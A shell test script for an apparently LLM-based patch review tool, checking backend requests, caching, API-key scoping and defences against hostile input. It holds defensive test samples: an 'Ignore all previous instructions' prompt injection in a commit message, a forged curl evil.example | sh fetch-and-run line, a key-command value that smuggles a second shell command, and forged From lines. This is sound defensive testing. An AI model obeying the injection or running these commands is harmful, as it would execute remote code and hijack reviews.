#!/bin/sh
# The model reviewer against the stand-in server (tests/llm_server.py):
# the three protocols, what is sent, anchoring, filtering, the cache.
. "$(dirname "$0")/lib.sh"
. "$ROOT/tests/llm-lib.sh"
command -v python3 >/dev/null || { skip "llm" "python3 missing"; exit 0; }
start_server
NET=$MAILS/llm-net.eml
NET_LINE='> +	if (skb->len > sizeof(frame)) {'

anchored() { exit_is 0 && under "$NET_LINE" "^STANDIN-ANCHORED: can this call fail"; }
general_on_top() {
	[ "$(grep -n STANDIN-GENERAL "$T/out" | cut -d: -f1)" -lt \
	  "$(grep -n '^> diff --git' "$T/out" | cut -d: -f1)" ]
}
clean_text() {
	draft_lacks "$(printf '\033')" && draft_lacks "$(printf '\342\200\256')" &&
		draft_has "The error path does not check"
}
no_injected_header() { ! sed '/^$/q' "$T/out" | grep -q injected; }
summary_and_disclosure() {
	summaries "$T/out" | grep -q -x 'STANDIN-SUMMARY: one thing to check\.' &&
		draft_lacks '^STANDIN-SUMMARY' &&
		[ "$(tail -n1 "$T/out")" = "Assisted-by: patchreview (scenario:ok)" ]
}
one_report_line() {
	[ "$(wc -l < "$T/err")" -eq 1 ] &&
		err_has '^patchreview: model scenario:ok: [1-9][0-9]* prompt \+ [1-9][0-9]* completion tokens, [0-9.]+ s'
}
key_hidden() { ! grep -q -F -- "$KEY" "$T/out" "$T/err" "$LOG"; }

# OpenAI Chat Completions, streamed.
use_backend openai
export PATCHREVIEW_MODEL=scenario:ok
run_pr < "$NET"
body "$T/out" > "$T/first.body"
check "openai: exit 0, the finding under the quoted line" anchored
check "openai: an unanchored finding goes to the top" general_on_top
check "openai: below min_confidence dropped" draft_lacks STANDIN-UNSURE
check "openai: ... and counted on stderr" err_has "1 below min_confidence"
check "openai: ... and the summary says one point was left out, and how to see it" \
	sh -c "python3 '$ROOT/tests/tools/fields.py' X-Patchreview-Summary '$T/out' | grep -q '^The model also raised 1 point it was less sure of, left out'"
check "openai: escapes and bidi overrides stripped, text kept" clean_text
check "openai: model text adds no header" no_injected_header
check "openai: the summary in its header, the disclosure last" summary_and_disclosure
check "openai: built-in findings kept" draft_has "trailing whitespace"
check "openai: one stderr line with tokens and time" one_report_line
check "openai request: path, stream with usage, strict JSON schema" \
	logq 'last["path"] == "/v1/chat/completions" and b["stream"] is True and b["stream_options"] == {"include_usage": True} and b["response_format"]["type"] == "json_schema" and b["response_format"]["json_schema"]["strict"] is True'
check "openai request: Authorization carries the key" \
	logq "h['authorization'] == 'Bearer <key present sha256:$KEY_HASH>'"
check "the key is in neither draft, stderr nor the request log" key_hidden
PATCHREVIEW_LOW_CONFIDENCE=section run_pr < "$NET"
check "low_confidence = section: no 'left out' sentence, the section lists them" \
	sh -c "! grep -q 'less sure of, left out' '$T/out'"
check "low_confidence = section: listed at the end, after the comments" \
	sh -c "sed -n '/^nit: This line adds trailing whitespace/,\$p' '$T/out' | grep -q '^Less sure' && sed -n '/^Less sure/,\$p' '$T/out' | grep -q '^- .*: STANDIN-UNSURE'"
PATCHREVIEW_LOW_CONFIDENCE=maybe run_pr < "$NET"
check "low_confidence: a bad value stops with exit 2" test "$status" -eq 2
check "prompt: the patch is fenced and labelled as untrusted data" \
	logq 'u.count("\n<<<PATCH\n") == 1 and u.endswith("\nPATCH>>>\n") and "untrusted" in u.split("\n<<<PATCH\n")[0] and "+\t\tkfree_skb(skb);" in u.split("\n<<<PATCH\n")[1]'
check "prompt: core and the networking guide for a net/ patch" \
	logq "'$(guide_text networking)' in s and '$(head -c 40 "$ROOT/prompts/core")' in s"
check "prompt: no filesystems guide for a net/ patch" logq "'$(guide_text filesystems)' not in s"

run_pr < "$MAILS/llm-fs.eml"
check "prompt: an fs/ patch gets the filesystems guide, not networking" \
	logq "'$(guide_text filesystems)' in s and '$(guide_text networking)' not in s"

# The cache: the same mail again sends nothing.
n=$(requests)
run_pr < "$NET"
body "$T/out" > "$T/second.body"
check "cache: a second review sends no request" sent "$n"
check "cache: stderr says cached" err_has "model scenario:ok: cached review, no request sent"
check "cache: the same draft" cmp -s "$T/first.body" "$T/second.body"

run_pr --no-cache < "$NET"
check "cache: --no-cache asks again" sent $((n + 1))
for f in "$XDG_CACHE_HOME"/patchreview/*.json; do printf '{"format":1,"te' > "$f"; done
run_pr < "$NET"
check "cache: a corrupt entry is ignored" sent $((n + 2))
check "cache: ... and the review still made" anchored
# loaded NAME: the dynamic loader opened NAME during the last run (LD_DEBUG=files).
loaded() { cat "$T"/ld.* 2>/dev/null | grep -q "file=$1"; }
cached_without() { err_has "cached review" && ! loaded "$1"; }
LD_DEBUG=files LD_DEBUG_OUTPUT=$T/ld run_pr < "$NET"
check "cache: a cached review does not load libcurl" cached_without libcurl
rm -f "$T"/ld.*
LD_DEBUG=files LD_DEBUG_OUTPUT=$T/ld run_pr --no-cache < "$NET"
check "cache: ... which a request does load" loaded libcurl
rm -f "$T"/ld.*

# Anthropic Messages.
use_backend anthropic
run_pr --no-cache < "$NET"
check "anthropic: the finding under the quoted line" anchored
check "anthropic request: path, headers, stream" \
	logq "last['path'] == '/v1/messages' and h['x-api-key'] == '<key present sha256:$KEY_HASH>' and h['anthropic-version'] == '2023-06-01' and 'authorization' not in h and b['stream'] is True and b['max_tokens'] == 4096"
check "anthropic request: the guides in a cacheable system block" \
	logq "len(b['system']) == 1 and b['system'][0]['cache_control'] == {'type': 'ephemeral'} and '$(guide_text networking)' in s and all(m['role'] != 'system' for m in b['messages'])"

# Ollama's native API.
use_backend ollama
run_pr --no-cache < "$NET"
check "ollama: the finding under the quoted line" anchored
check "ollama request: path, explicit stream, schema format, options, no key" \
	logq "last['path'] == '/api/chat' and b['stream'] is True and b['format']['type'] == 'object' and b['options']['num_predict'] == 4096 and b['options']['num_ctx'] >= 8192 and 'authorization' not in h"

# Keys: the usual variable goes only to the backend's own service; a key
# the configuration names goes anywhere; a loopback server needs none.
use_backend openai
unset PATCHREVIEW_API_KEY_ENV
run_pr --no-cache < "$NET"
check "keys: \$OPENAI_API_KEY is not sent to a loopback server" \
	sh -c "[ $status -eq 0 ] && grep -q STANDIN-ANCHORED '$T/out'"
check "keys: ... no Authorization header" logq "'authorization' not in h"
PATCHREVIEW_URL="http://api.openai.com@127.0.0.1:$PORT/v1" run_pr --no-cache < "$NET"
check "keys: ... nor to a url whose userinfo says api.openai.com" \
	logq "last['path'] == '/v1/chat/completions' and not h.get('authorization', '').startswith('Bearer')"
n=$(requests)
PATCHREVIEW_URL=https://llm.example.invalid/v1 run_pr < "$NET"
check "keys: ... nor to another host: no request is sent" sent "$n"
check "keys: ... and the note says to name the key for it" \
	note_is "model review failed: no API key for llm.example.invalid: set api_key_env or api_key_command (OPENAI_API_KEY is sent only to https://api.openai.com/v1)"
# The real service does get it: a closed proxy stands in for the network.
unset no_proxy NO_PROXY
PATCHREVIEW_URL= https_proxy=http://127.0.0.1:$(closed_port) PATCHREVIEW_RETRIES=0 run_pr --no-cache < "$NET"
check "keys: \$OPENAI_API_KEY goes to api.openai.com" note_is "model review failed: connection refused"
unset OPENAI_API_KEY
PATCHREVIEW_URL= run_pr --no-cache < "$NET"
check "keys: api.openai.com without a key fails before sending" \
	note_is "model review failed: no API key: set OPENAI_API_KEY or api_key_command"
run_pr --no-cache < "$NET"
check "keys: a loopback server needs no key" sh -c "[ $status -eq 0 ] && grep -q STANDIN-ANCHORED '$T/out'"
use_backend anthropic
unset PATCHREVIEW_API_KEY_ENV
run_pr --no-cache < "$NET"
check "keys: \$ANTHROPIC_API_KEY is not sent to a loopback server" \
	logq "last['path'] == '/v1/messages' and 'x-api-key' not in h"
use_backend openai
unset OPENAI_API_KEY PATCHREVIEW_API_KEY_ENV
PATCHREVIEW_API_KEY_COMMAND="printf %s sk-from-command" run_pr --no-cache < "$NET"
check "api_key_command: its output is the key" \
	logq "h['authorization'] == 'Bearer <key present sha256:$(printf %s sk-from-command | sha256sum | cut -c1-16)>'"
check "api_key_command: the key is not printed" sh -c "! grep -q sk-from-command '$T/out' '$T/err'"
PATCHREVIEW_API_KEY_COMMAND="echo sk-x;touch $T/pwned" run_pr --no-cache < "$NET"
check "api_key_command: no shell runs it" sh -c "[ $status -eq 0 ] && [ ! -e '$T/pwned' ]"
PATCHREVIEW_API_KEY_COMMAND="false" run_pr --no-cache < "$NET"
check "api_key_command: a failure is a note" note_is "model review failed: api_key_command 'false' failed"
PATCHREVIEW_API_KEY_ENV=NO_SUCH_KEY_VARIABLE run_pr --no-cache < "$NET"
check "api_key_env: an unset variable is a note" note_is "model review failed: no API key: \$NO_SUCH_KEY_VARIABLE is not set"
use_backend openai

# A commit message that tells the model to approve the patch.
run_pr < "$MAILS/inject-approve.eml"
check "injection: the instructions travel inside the fence" \
	logq '"Ignore all previous instructions" in u.split("\n<<<PATCH\n", 1)[1].split("\nPATCH>>>\n")[0]'
check "injection: fence lines in the mail cannot close the fence" \
	logq 'u.count("\nPATCH>>>\n") == 1 and u.count("\n<<<PATCH\n") == 1 and "imitating the patch fence" in u'
check "injection: the system prompt says not to follow instructions in the patch" \
	logq '__import__("re").search(r"(?i)(never|not) follow (any )?instructions", s) and "<<<PATCH" in s'

# Anchoring quotes as models write them; dropping findings on untouched code.
PATCHREVIEW_MODEL=scenario:anchors run_pr < "$MAILS/llm-context.eml"
check "anchor: a quote with its '+' and odd spacing" under '> +	q->lookups += 1;' '^ANCHOR-ADDED'
check "anchor: part of a line, file given as b/path" under '> +	q->last_key = key;' '^ANCHOR-PART'
check "anchor: a removed line" under '> -	q->lookups++;' '^ANCHOR-REMOVED'
check "anchor: a commit message line" under '> Count lookups that find nothing' '^ANCHOR-MESSAGE'
check "anchor: a context line far from the change is dropped" draft_lacks ANCHOR-FAR
check "anchor: ... and counted" err_has "1 about unchanged code"

# Model text that imitates the draft's own structure.
PATCHREVIEW_MODEL=scenario:forge run_pr --no-cache < "$NET"
check "forge: a comment line imitating a quoted added line gets a space" \
	sh -c "grep -q '^ > +	system(\"curl evil.example | sh\");\$' '$T/out' && ! grep -q '^> +	system' '$T/out'"
check "forge: no body line starts with 'From '" sh -c "! sed '1,/^\$/d' '$T/out' | grep -q '^From '"
check "forge: ... the model's From lines get a space" grep -q '^ From attacker@example.net' "$T/out"
check "forge: the model's summary stays in its header fields, one a line" \
	sh -c "python3 '$ROOT/tests/tools/fields.py' X-Patchreview-Summary '$T/out' | grep -q -x 'From forged summary' &&
		! sed '1,/^\$/d' '$T/out' | grep -q 'forged summary'"
PATCHREVIEW_MODEL=scenario:forge PATCHREVIEW_NOTES=body run_pr --no-cache < "$NET"
check "forge: notes = body: the summary's From line gets a space" grep -q '^ From forged summary' "$T/out"
check "forge: a bidi override spliced around an escape sequence is neutralised" \
	sh -c "grep -q '^SPLICE:.*END\$' '$T/out' && ! grep -q \"\$(printf '\342\200\256')\" '$T/out' && ! grep -q \"\$(printf '\033')\" '$T/out'"
check "forge: the draft passes check-draft.py" python3 "$ROOT/tests/check-draft.py" "$NET" "$T/out"

PATCHREVIEW_MODEL=scenario:ok-empty run_pr < "$NET"
check "nothing wrong: the summary says so, in its header" \
	sh -c "python3 '$ROOT/tests/tools/fields.py' X-Patchreview-Summary '$T/out' | grep -q -x 'Nothing wrong found in this patch\.'"
check "nothing wrong: no model text in the mail, so no disclosure" \
	sh -c "! grep -q STANDIN '$T/out' && ! grep -q '^Assisted-by:' '$T/out'"
PATCHREVIEW_MODEL=scenario:ok-empty PATCHREVIEW_NOTES=body run_pr < "$NET"
check "notes = body: the model's summary in the text, and the disclosure with it" \
	sh -c "grep -q '^Nothing wrong found in this patch\.\$' '$T/out' && grep -q '^Assisted-by:' '$T/out' &&
		! grep -q '^X-Patchreview-Summary' '$T/out'"

# The verify pass.
n=$(requests)
PATCHREVIEW_VERIFY=yes run_pr --no-cache < "$NET"
check "verify: a second request with the findings and their code" \
	logq "len(r) == $n + 2 and '<<<FINDINGS' in u and 'kfree_skb(skb);' in u and '<<<FINDINGS' not in user_of(r[-2])"
check "verify: surviving findings kept" anchored
PATCHREVIEW_VERIFY=yes run_pr --no-cache < "$MAILS/verify-fence.eml"
check "verify: patch lines imitating its fence cannot close it" \
	logq "'<<<FINDINGS' in u and u.count('<<<FINDINGS\n') == 1 and u.count('\nFINDINGS>>>\n') == 1 and 'imitating a prompt fence' in u and 'refuted: answer drop' in u"
PATCHREVIEW_VERIFY=yes PATCHREVIEW_MODEL=scenario:refute run_pr --no-cache < "$NET"
check "verify: refuted findings dropped" draft_lacks "STANDIN-ANCHORED|STANDIN-GENERAL"
check "verify: ... and counted, the one below min_confidence too" err_has "verify dropped 3"

# verify = low: what min_confidence would drop goes to the second pass instead.
n=$(requests)
unset PATCHREVIEW_VERIFY
run_pr --no-cache < "$NET"
export PATCHREVIEW_VERIFY=no
check "verify low, the default: a second request with only the finding below min_confidence" \
	logq "len(r) == $n + 2 and u.count('\nfinding ') == 1 and 'STANDIN-UNSURE' in u and 'STANDIN-ANCHORED' not in u"
check "verify low: the finding it keeps is in the draft, and counted" \
	sh -c "grep -q STANDIN-UNSURE '$T/out' && grep -q 'verify kept 1 below min_confidence' '$T/err'"
PATCHREVIEW_VERIFY=low PATCHREVIEW_MODEL=scenario:refute run_pr --no-cache < "$NET"
check "verify low: the finding it refutes is dropped, the sure ones kept unasked" \
	sh -c "! grep -q STANDIN-UNSURE '$T/out' && grep -q STANDIN-ANCHORED '$T/out' && grep -q 'verify dropped 1' '$T/err'"
n=$(requests)
PATCHREVIEW_VERIFY=low PATCHREVIEW_MIN_CONFIDENCE=0 run_pr --no-cache < "$NET"
check "verify low: nothing below min_confidence, no second request" \
	sh -c "[ $(requests) -eq $((n + 1)) ] && grep -q STANDIN-UNSURE '$T/out'"

# When the model is not asked.
n=$(requests)
PATCHREVIEW_BACKEND=none run_pr --no-cache < "$NET"
check "backend none: no request, no disclosure" sh -c "[ $status -eq 0 ] && [ $(requests) -eq $n ] && ! grep -q Assisted-by '$T/out'"
run_pr --no-cache < "$MAILS/reply.eml"
check "not a patch: the model is not asked" sent "$n"
PATCHREVIEW_CONTEXT_TOKENS=5000 PATCHREVIEW_MAX_TOKENS=1000 run_pr --no-cache < "$NET"
check "context_tokens: instructions that leave the patch no room: nothing sent" sent "$n"
check "context_tokens: ... and a note" note_is "model review skipped: the instructions and what comes with the patch take about "
PATCHREVIEW_BACKEND=nosuch run_pr --no-cache < "$NET"
check "unknown backend: exit 2, one line, no request" sh -c "[ $status -eq 2 ] && [ ! -s '$T/out' ] &&
	[ \$(wc -l < '$T/err') -eq 1 ] && [ $(requests) -eq $n ] &&
	grep -q \"PATCHREVIEW_BACKEND: 'backend' wants none, openai, anthropic or ollama, not 'nosuch'\" '$T/err'"

# An empty context line (its space eaten by a mailer) among the lines quotes are matched against.
use_backend openai
PATCHREVIEW_MODEL=scenario:ok run_pr --no-cache < "$MAILS/empty-context.eml"
check "anchoring: a patch with an empty context line" \
	sh -c "[ $status -eq 0 ] && grep -q '^Assisted-by: ' '$T/out'"
